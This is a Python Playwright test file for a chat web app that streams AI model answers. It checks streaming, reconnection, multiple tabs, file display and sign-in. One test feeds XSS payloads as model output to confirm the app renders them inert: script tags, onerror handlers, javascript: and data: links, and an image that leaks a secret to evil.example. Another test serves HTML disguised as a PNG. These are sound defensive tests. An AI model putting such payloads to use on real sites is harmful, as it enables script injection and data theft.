"""What people see and do, in a real Chromium, before a real `manage.py serve`."""

import re
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.browser import PASSWORD, Open, choose_model, send, set_up, violations, visiting
from tests.cog import start_cog_server
from tests.fake_replicate import (
    FakeReplicate,
    Gate,
    Logs,
    Output,
    Script,
    recorded_errors,
)
from tests.media import make_png, make_wav
from tests.old_proxy import OldProxy
from tests.proxy import FaultyProxy, Toxic
from tests.site import Site
from tests.waiting import wait_until


@pytest.fixture
def open_page(browser: Browser, site: Site, signed_in: Any) -> Iterator[Open]:
    # Broken connections and ended sessions are part of some scenes; all else that a browser complains of is ours.
    broken = ("ERR_CONNECTION", "ERR_EMPTY_RESPONSE", "ERR_INCOMPLETE", "ERR_INTERNET", "ERR_NETWORK", "WebSocket")
    of_nginx = ("ERR_HTTP2", "status of 502")
    with visiting(browser, site.url, signed_in, harmless=(*broken, *of_nginx, "status of 401")) as open_page:
        yield open_page


def answer_of(page: Page) -> Any:
    return page.locator(".message--assistant").last


SHOWN = """() => [...document.querySelectorAll(".messages .message")].map(message => [
    message.id, message.innerText, ...[...message.querySelectorAll("answer-text, .files")].map(part => part.innerHTML)
])"""


def assert_same_as_fetched_again(page: Page) -> None:
    """The page, and the news that it was told, are the page as it would be fetched now."""
    expect(page.locator("streaming-answer")).to_have_count(0)
    fetched = page.context.new_page()
    fetched.goto(page.url)
    expect(fetched.locator("conversation-news")).to_be_attached()
    # The buttons and times that scripts put in are there in a moment.
    with suppress(AssertionError):
        wait_until(lambda: page.evaluate(SHOWN) == fetched.evaluate(SHOWN))
    assert page.evaluate(SHOWN) == fetched.evaluate(SHOWN)
    fetched.close()


def test_a_question_is_answered_as_it_streams(open_page: Open, host: FakeReplicate, site: Site) -> None:
    gate = Gate()
    host.script(Script(steps=["The capital of **France**", gate, " is *Paris*.\n\n```python\nprint(1)\n```\n"]))
    page = open_page()
    send(page, "What is the capital of France?")

    expect(page.locator(".message--user")).to_have_text(re.compile("What is the capital of France?"))
    expect(answer_of(page).locator("strong")).to_have_text("France")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    gate.open()
    expect(answer_of(page).locator("em")).to_have_text("Paris")
    expect(answer_of(page).locator("pre code")).to_have_text(re.compile(r"print\(1\)"))
    expect(page.get_by_role("button", name="Stop")).to_be_hidden()
    expect(page.get_by_role("textbox", name="Message")).to_be_focused()
    expect(page.locator("nav, aside").get_by_role("link", name="What is the capital of France?").first).to_be_attached()

    host.script(Script(chunks=["Berlin."]))
    page.get_by_role("textbox", name="Message").fill("And of Germany?")
    page.keyboard.press("Enter")
    expect(answer_of(page)).to_contain_text("Berlin.")
    assert "Paris" in host.ledger.created[-1].body["input"]["prompt"]
    assert "WARNING" not in (site.folder / "serve.log").read_text()


def test_a_reload_in_mid_answer_goes_on_where_it_stood(open_page: Open, host: FakeReplicate) -> None:
    gate = Gate()
    host.script(Script(steps=["Grüße 👩‍🚀 ", "und", gate, " mehr."]))
    page = open_page()
    send(page, "Say hello in German")
    expect(answer_of(page)).to_contain_text("Grüße 👩‍🚀 und")

    page.reload()
    expect(answer_of(page)).to_contain_text("Grüße 👩‍🚀 und")
    gate.open()

    expect(answer_of(page).locator("answer-text")).to_have_text("Grüße 👩‍🚀 und mehr.")
    expect(page.get_by_role("button", name="Stop")).to_be_hidden()
    assert_same_as_fetched_again(page)


def test_a_second_tab_follows_live_and_both_end_alike(open_page: Open, host: FakeReplicate) -> None:
    gate = Gate()
    host.script(Script(steps=["One, two,", gate, " three."]), Script(chunks=["Four."]))
    first = open_page()
    send(first, "Count")
    expect(answer_of(first)).to_contain_text("One, two,")
    second = open_page(first.url.partition("127.0.0.1")[2].partition("/")[2].join(["/", ""]))
    expect(answer_of(second)).to_contain_text("One, two,")
    gate.open()
    for page in (first, second):
        expect(answer_of(page).locator("answer-text")).to_have_text("One, two, three.")

    send(second, "Go on")
    for page in (first, second):
        expect(answer_of(page)).to_contain_text("Four.")
        expect(page.locator("streaming-answer")).to_have_count(0)
        assert_same_as_fetched_again(page)


def test_stop_keeps_what_was_seen_in_every_tab(open_page: Open, host: FakeReplicate) -> None:
    gate = Gate()
    host.script(Script(steps=["Once upon a time", gate, " there was more."]))
    page = open_page()
    send(page, "Tell me a story")
    expect(answer_of(page)).to_contain_text("Once upon a time")
    other = open_page(page.url)

    other.get_by_role("button", name="Stop").click()

    for tab in (page, other):
        expect(answer_of(tab)).to_contain_text("Stopped.")
        expect(answer_of(tab).locator("answer-text")).to_have_text("Once upon a time")
        assert_same_as_fetched_again(tab)
    host.ledger.wait_for(lambda ledger: ledger.canceled())
    gate.open()


def test_a_failure_is_told_and_can_be_tried_again(open_page: Open, host: FakeReplicate) -> None:
    host.script(Script(on_create=recorded_errors(402)[0]), Script(chunks=["Now it works."]))
    page = open_page()
    send(page, "Will it work?")
    expect(answer_of(page)).to_contain_text("no credit left")

    page.get_by_role("button", name="Try again").click()

    expect(answer_of(page)).to_contain_text("Now it works.")
    expect(page.locator(".message--assistant")).to_have_count(1)


def test_waiting_is_explained(open_page: Open, host: FakeReplicate) -> None:
    boot = Gate()
    host.script(Script(chunks=["Awake."], boot=boot))
    page = open_page()
    send(page, "Are you awake?")

    expect(answer_of(page)).to_contain_text(re.compile(r"Starting · \d+ s"))
    boot.open()
    expect(answer_of(page)).to_contain_text("Awake.")


# ---------------------------------------------------------------- connections that are blocked, asleep, gone


STORY = [f"**Part {number}**, in words: Grüße 👩‍🚀.\n\n" for number in range(6)]


class Story:
    """An answer of which the test lets one part after the other come."""

    def __init__(self, host: FakeReplicate) -> None:
        self._gates = [Gate() for _ in STORY]
        host.script(Script(steps=[step for pair in zip(STORY, self._gates, strict=True) for step in pair]))

    def tell(self, page: Page, *, from_part: int, to_part: int) -> None:
        """Let parts come, and wait for each in the page."""
        for part in range(from_part, to_part + 1):
            expect(answer_of(page).get_by_text(f"Part {part}", exact=True)).to_be_visible(timeout=60_000)
            if part < to_part:
                self._gates[part].open()

    def go_on(self, part: int) -> None:
        """Let the part after this one come, whoever sees it."""
        self._gates[part].open()

    def end(self) -> None:
        for gate in self._gates:
            gate.open()


def way_of(page: Page) -> str | None:
    """Which way is kept for the pages of this tab: None means sockets."""
    kept: str | None = page.evaluate("() => JSON.parse(sessionStorage.getItem('way'))?.way ?? null")
    return kept


@pytest.mark.parametrize(("buffers", "way"), [(False, "stream"), (True, "poll")])
def test_where_sockets_are_blocked_answers_come_as_they_are_written(
    buffers: bool, way: str, open_page: Open, site: Site, host: FakeReplicate
) -> None:
    story = Story(host)
    with OldProxy(site.port, buffers=buffers) as proxy:
        page = open_page(site.reached_through(proxy.port))
        send(page, "Tell me a story")
        story.tell(page, from_part=0, to_part=3)
        assert way_of(page) == way

        tried = proxy.count("/socket/")
        page.reload()
        story.tell(page, from_part=3, to_part=5)
        other = page.context.new_page()
        other.goto(page.url)
        story.end()
        expect(page.get_by_role("button", name="Stop")).to_be_hidden()
        assert_same_as_fetched_again(page)
        assert_same_as_fetched_again(other)
        assert proxy.count("/socket/") >= tried >= 2

        host.script(Script(chunks=["Gladly."]))
        send(other, "Thanks")
        for tab in (page, other):
            expect(answer_of(tab)).to_contain_text("Gladly.", timeout=30_000)
            assert_same_as_fetched_again(tab)


def test_who_is_signed_out_where_sockets_are_blocked_is_sent_to_sign_in(
    open_page: Open, site: Site, host: FakeReplicate
) -> None:
    story = Story(host)
    with OldProxy(site.port) as proxy:
        page = open_page(site.reached_through(proxy.port))
        send(page, "Tell me a story")
        story.tell(page, from_part=0, to_part=1)
        assert way_of(page) == "stream"
        page.context.clear_cookies()
        # As after a gap: ask anew.
        page.locator("streaming-answer").evaluate(
            "answer => answer.dispatchEvent(new CustomEvent('follow', { bubbles: true, detail: answer.request }))"
        )

        expect(page.get_by_label("Username")).to_be_visible()
        story.end()


def test_two_devices_show_a_stop_that_one_of_them_asked_for(open_page: Open, host: FakeReplicate) -> None:
    story = Story(host)
    first = open_page()
    send(first, "Tell me a story")
    story.tell(first, from_part=0, to_part=1)
    second = open_page(first.url)
    story.tell(second, from_part=1, to_part=2)

    second.get_by_role("button", name="Stop").click()

    for page in (first, second):
        expect(answer_of(page)).to_contain_text("Stopped.")
        expect(answer_of(page)).to_contain_text("Part 2")
        assert_same_as_fetched_again(page)
    story.end()


def test_a_page_that_was_offline_catches_up(open_page: Open, host: FakeReplicate) -> None:
    story = Story(host)
    page = open_page()
    send(page, "Tell me a story")
    story.tell(page, from_part=0, to_part=1)

    page.context.set_offline(True)
    story.go_on(1)
    story.go_on(2)
    page.context.set_offline(False)
    story.tell(page, from_part=3, to_part=4)
    story.end()

    assert_same_as_fetched_again(page)


def test_what_writes_answers_is_fetched_again_where_its_connection_broke(open_page: Open, host: FakeReplicate) -> None:
    page = open_page()
    page.route("**/markdown/writer*.js", lambda route: route.abort("connectionreset"), times=2)
    first, second = Gate(), Gate()
    host.script(Script(steps=["One", first, " two", second, " three."]))

    send(page, "Count")
    expect(answer_of(page)).to_contain_text("One")
    first.open()
    expect(answer_of(page)).to_contain_text("One two")
    second.open()
    expect(answer_of(page)).to_contain_text("One two three.")


def test_a_page_that_slept_catches_up(open_page: Open, host: FakeReplicate) -> None:
    story = Story(host)
    page = open_page()
    send(page, "Tell me a story")
    story.tell(page, from_part=0, to_part=1)
    browser = page.context.new_cdp_session(page)

    browser.send("Page.setWebLifecycleState", {"state": "frozen"})
    story.go_on(1)
    story.go_on(2)
    browser.send("Page.setWebLifecycleState", {"state": "active"})
    story.tell(page, from_part=3, to_part=4)
    story.end()

    assert_same_as_fetched_again(page)


def port_of(url: str) -> int:
    return urlsplit(url).port or 0


@pytest.mark.parametrize("blocked", [False, True], ids=["socket", "stream"])
def test_a_connection_that_is_dead_without_a_word_is_noticed(
    blocked: bool, open_page: Open, site: Site, host: FakeReplicate
) -> None:
    story = Story(host)
    with (
        OldProxy(site.port) as old,
        FaultyProxy(port_of(site.reached_through(old.port) if blocked else site.url)) as proxy,
    ):
        page = open_page(site.url.replace(str(port_of(site.url)), str(proxy.port)))
        send(page, "Tell me a story")
        story.tell(page, from_part=0, to_part=1)

        # Open connections swallow everything, both ways and the end as well; new ones do not.
        proxy.spoil(Toxic(hole_at=0), "answer")
        proxy.spoil(Toxic(hole_at=0), "request")
        before = proxy.connections
        story.go_on(1)
        story.go_on(2)
        expect(page.get_by_text("The connection is lost. Trying again")).to_be_visible(timeout=40_000)
        # Over HTTP/2 all goes over one connection, and the browser itself has to find out.
        wait_until(lambda: proxy.connections > before, limit=60)
        proxy.heal()
        story.tell(page, from_part=3, to_part=4)
        story.end()

        assert_same_as_fetched_again(page)


# ---------------------------------------------------------------- files


def ask_painter(page: Page, text: str) -> None:
    choose_model(page, "painter")
    send(page, text)


def loaded_images(page: Page) -> Any:
    """The widths of the answer's images; 0 for one that a browser could not show."""
    return (
        answer_of(page)
        .locator("img")
        .evaluate_all(
            "images => Promise.all(images.map(image => image.decode().then(() => image.naturalWidth, () => 0)))"
        )
    )


def test_images_are_shown_as_they_come_and_stay(open_page: Open, host: FakeReplicate) -> None:
    half, whole = Gate(), Gate()
    first = host.output_file(make_png(200, 60, 40), name="first.png")
    second = host.output_file(make_png(40, 90, 200), name="second.png")
    bar = " 38%|███▊      | 19/50 [00:01<00:01, 15.97it/s]\n"
    host.script(Script(steps=[Logs(bar), half, Output(first), whole, Output(second)], stream=False))
    page = open_page()
    ask_painter(page, "Two pictures")
    expect(answer_of(page)).to_contain_text(re.compile(r"Running, 38 % · \d+ s"))
    assert answer_of(page).get_by_role("progressbar").evaluate("bar => bar.value") == 38

    half.open()
    expect(answer_of(page).get_by_role("img", name="first.png")).to_be_visible()
    answer_of(page).locator(".file").evaluate("file => { file.seen = true; }")
    whole.open()
    expect(page.locator("streaming-answer")).to_have_count(0)

    expect(answer_of(page).get_by_role("img")).to_have_count(2)
    assert loaded_images(page) == [640, 640]
    assert answer_of(page).locator(".file").first.evaluate("file => file.seen"), "it was put in anew, and blinked"
    assert violations(page) == []
    with page.expect_download() as download:
        answer_of(page).get_by_role("link", name="Download second.png").click()
    assert Path(download.value.path()).read_bytes() == make_png(40, 90, 200)
    assert download.value.suggested_filename == "second.png"

    page.reload()
    assert loaded_images(page) == [640, 640]
    see_in_full(page)


def see_in_full(page: Page) -> None:
    """Walk through an answer's two pictures by the keys, from the first one and back to it."""
    link = answer_of(page).get_by_role("link", name="first.png", exact=True)
    viewer = page.get_by_role("dialog")
    link.focus()
    page.keyboard.press("Enter")
    expect(viewer.get_by_role("img", name="first.png")).to_be_visible()
    expect(viewer.get_by_role("status")).to_have_text("1 of 2")
    assert violations(page) == []
    page.keyboard.press("ArrowLeft")
    expect(viewer.get_by_role("img", name="second.png")).to_be_visible()
    viewer.get_by_role("button", name="Next picture").click()
    expect(viewer.get_by_role("heading", name="first.png")).to_be_visible()
    with page.expect_download() as download:
        viewer.get_by_role("link", name="Download").click()
    assert download.value.suggested_filename == "first.png"
    page.keyboard.press("Escape")
    expect(viewer).to_be_hidden()
    expect(link).to_be_focused()
    link.click()
    page.mouse.click(3, 400)
    expect(viewer).to_be_hidden()


def test_sounds_can_be_played(open_page: Open, host: FakeReplicate) -> None:
    host.script(Script(output=[host.output_file(make_wav(), name="speech.wav")], stream=False))
    page = open_page()
    ask_painter(page, "A sound")

    player = answer_of(page).locator("audio")
    expect(player).to_be_visible()
    expect(player).to_have_js_property("duration", 2)


def test_images_are_shown_without_scripts(open_page: Open, host: FakeReplicate) -> None:
    host.script(Script(output=[host.output_file(make_png(200, 60, 40))], stream=False))
    page = open_page(java_script_enabled=False)
    ask_painter(page, "A picture")

    image = answer_of(page).get_by_role("img", name="out-0.png")
    expect(image).to_be_visible()
    assert image.evaluate("image => image.decode().then(() => image.naturalWidth)") == 640


def test_a_page_that_calls_itself_an_image_is_only_saved(open_page: Open, host: FakeReplicate) -> None:
    html = b"<!DOCTYPE html><script>document.title = 'taken over'</script>"
    host.script(Script(output=[host.output_file(html, name="x.png")], stream=False))
    page = open_page()
    ask_painter(page, "Be nasty")
    link = answer_of(page).get_by_role("link", name="Download x.png")
    expect(link).to_be_visible()
    assert answer_of(page).locator("img").count() == 0

    address = link.evaluate("link => link.href.split('?')[0]")
    with page.expect_download() as download:
        page.evaluate("address => location.assign(address)", address)

    assert Path(download.value.path()).read_bytes() == html
    expect(answer_of(page)).to_be_visible()  # still the same page


def test_a_crash_in_mid_answer_costs_a_pause_and_nothing_else(open_page: Open, site: Site, host: FakeReplicate) -> None:
    gate = Gate()
    host.script(Script(steps=["Before the crash,", gate, " after it."]))
    asked = len(host.ledger.created)
    page = open_page()
    send(page, "Hold on")
    expect(answer_of(page)).to_contain_text("Before the crash,")

    site.kill()
    expect(page.get_by_text("The connection is lost. Trying again")).to_be_visible()
    site.start()
    gate.open()

    expect(answer_of(page).locator("answer-text")).to_have_text("Before the crash, after it.", timeout=40_000)
    assert len(host.ledger.created) == asked + 1
    assert_same_as_fetched_again(page)


def test_everything_works_without_scripts(open_page: Open, host: FakeReplicate) -> None:
    gate = Gate()
    host.script(Script(steps=["Plain", gate, " **text**."]))
    page = open_page(java_script_enabled=False)
    send(page, "Without scripts?")
    expect(page.locator(".message--user")).to_contain_text("Without scripts?")
    expect(answer_of(page)).to_contain_text("Plain")  # the page asks for itself again
    gate.open()

    expect(answer_of(page).locator("strong")).to_have_text("text")


def test_hostile_output_runs_nothing_and_asks_nobody(open_page: Open, host: FakeReplicate) -> None:
    hostile = (
        "<img src=x onerror=alert(1)> <script>alert(2)</script> [click](javascript:alert(3)) "
        "![pixel](https://evil.example/p.png?secret) <svg onload=alert(4)> [ref]\n\n"
        '<iframe srcdoc="<script>parent.alert(5)</script>"></iframe>\n\n'
        "[ref]: data:text/html,<script>alert(6)</script>\n"
    )
    gate = Gate()
    host.script(Script(steps=[*(hostile[i : i + 7] for i in range(0, len(hostile), 7)), gate, "\n\nEnd."]))
    page = open_page()
    alerts: list[str] = []
    elsewhere: list[str] = []
    page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))

    def watch(route: Route) -> None:
        if "127.0.0.1" not in route.request.url:
            elsewhere.append(route.request.url)
        route.continue_()

    page.route("**/*", watch)
    send(page, "Be nasty")
    gate.wait_reached()
    expect(answer_of(page)).to_contain_text("click")
    gate.open()
    expect(answer_of(page)).to_contain_text("End.")
    page.reload()
    expect(answer_of(page)).to_contain_text("End.")

    assert (alerts, elsewhere) == ([], [])
    for selector in (
        "script",
        "iframe",
        "svg[onload]",
        "img[src*=evil]",
        "[onerror]",
        "a[href^='javascript']",
        "a[href^='data']",
    ):
        assert page.locator(f"answer-text {selector}").count() == 0, selector


def test_a_phone_shows_everything_without_scrolling_sideways(open_page: Open, host: FakeReplicate) -> None:
    host.script(Script(chunks=["x" * 300 + "\n\n```\n" + "y" * 300 + "\n```\n\n|a|b|\n|-|-|\n|" + "z" * 200 + "|1|\n"]))
    page = open_page(viewport={"width": 390, "height": 844}, has_touch=True, is_mobile=True)
    send(page, "Long words")
    expect(answer_of(page).locator("table")).to_be_visible()

    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    page.get_by_role("button", name="Conversations").click()
    expect(page.get_by_role("link", name="Long words").first).to_be_visible()


def test_signing_in_and_out(signed_in: Any, open_page: Open) -> None:
    page = open_page()
    page.context.clear_cookies()  # a session of its own: signing out ends it for the other tests otherwise
    page.goto("/")
    page.get_by_label("Username").fill("alice")
    page.get_by_label("Password").fill("wrong")
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("alert")).to_be_visible()
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("textbox", name="Message")).to_be_visible()
    page.get_by_role("button", name="alice").click()
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_label("Username")).to_be_visible()


@pytest.mark.browser
def test_the_bundled_model_answers_in_the_page(browser: Browser, tmp_path: Path) -> None:
    with start_cog_server("smollm2") as server, Site(tmp_path, {"PARLEY_COG_SERVERS": f"smollm2={server.url}"}) as site:
        context = browser.new_context()
        page = context.new_page()
        set_up(page, site.address)
        send(page, "What is the capital of France?")
        expect(answer_of(page).locator("answer-text")).to_contain_text("Paris", timeout=60_000)
        context.close()
